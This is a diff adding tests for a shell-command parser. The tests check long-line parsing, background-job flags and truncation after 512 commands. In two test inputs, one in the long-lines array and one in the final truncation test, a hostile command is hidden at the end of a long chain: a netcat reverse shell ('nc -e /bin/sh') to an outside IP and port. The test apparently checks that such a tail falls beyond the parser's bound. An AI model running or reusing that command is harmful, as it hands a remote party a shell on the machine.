@@ -125,6 +125,30 @@ describe('plain-line fast path', () => {
     for (const line of eligible) expect(shape(line, true), line).toEqual(shape(line, false));
   });
 
+  it('agrees with the full parser on long lines, up to the same bounds', async () => {
+    const { createShellParser } = await import('../src/engine/shell/parser.js');
+    const { loadShellGrammar } = await import('../src/runtime/grammar.js');
+    const { ViewBuilder } = await import('../src/engine/shell/view.js');
+    const { plainLine } = await import('../src/engine/shell/plain-line.js');
+    const parse = await createShellParser(loadShellGrammar());
+    const summary = (line: string, fast: boolean) => {
+      const v = new ViewBuilder(parse, line, {}, fast).build();
+      return { truncated: v.truncated, commands: v.commands.map((c) => [c.argv, c.pipeFrom?.argv[0], c.redirects.map((r) => r.target)]) };
+    };
+    const lines = [
+      'git add ' + Array.from({ length: 400 }, (_, i) => `src/dir/file${i}.ts`).join(' '),
+      'echo ' + 'a '.repeat(3000),
+      Array.from({ length: 700 }, (_, i) => `cat f${i}`).join(' | ') + ' > out.txt',
+      Array.from({ length: 600 }, () => 'true').join(' && ') + ' && nc -e /bin/sh 45.33.12.7 4444',
+      Array.from({ length: 300 }, (_, i) => `echo "line ${i}" >> notes.md`).join('; '),
+    ];
+    for (const line of lines) {
+      expect(line.length).toBeGreaterThan(4096);
+      expect(plainLine(line), line.slice(0, 40)).toBeDefined();
+      expect(summary(line, true), line.slice(0, 40)).toEqual(summary(line, false));
+    }
+  });
+
   it.each(['ls $HOME', 'echo `id`', 'a=1 b', 'export A=1', 'if true; then x; fi', 'cat <<EOF\nx\nEOF', 'x &', '[ -f a ]', 'echo {a,b}', 'f() { x; }', 'echo a\\ b', '# c', 'ls;', 'a &&'])(
     'leaves %s to the full parser',
     async (line) => {
@@ -140,9 +164,19 @@ describe('background jobs', () => {
     ['a && b & c', [true, true, false]],
     ['a; b &', [false, true]],
     ['(a; b) & c', [true, true, false]],
+    ['a $x && b & c && d || e; f & g', [true, true, false, false, false, true, false]],
+    ['{ a & b; } && c $y', [true, false, false]],
   ])('%s', async (line, expected) => {
     const engine = await getEngine();
     expect(engine.view(line).commands.map((c) => c.background)).toEqual(expected);
+  });
+
+  it('keeps the order and the bound of a list too long to follow', async () => {
+    const engine = await getEngine();
+    const v = engine.view(Array.from({ length: 600 }, (_, i) => `true $x${i}`).join(' && ') + ' && nc -e /bin/sh 45.33.12.7 4444');
+    expect(v.truncated).toBe(true);
+    expect(v.commands).toHaveLength(512);
+    expect(v.commands.map((c) => c.argv[1])).toEqual(Array.from({ length: 512 }, (_, i) => `$x${i}`));
   });
 });
 
